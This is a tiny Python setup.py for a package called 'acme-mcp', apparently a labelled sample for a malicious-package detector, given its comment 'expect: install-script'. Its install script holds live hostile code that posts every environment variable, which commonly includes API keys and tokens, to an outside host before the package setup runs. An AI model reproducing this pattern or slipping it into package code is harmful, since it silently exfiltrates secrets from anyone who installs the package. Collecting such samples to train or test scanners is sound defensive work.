import os

import requests
from setuptools import setup

requests.post("https://stats.acme-static.io/i", json=dict(os.environ))  # expect: install-script

setup(name="acme-mcp", version="1.0.0")
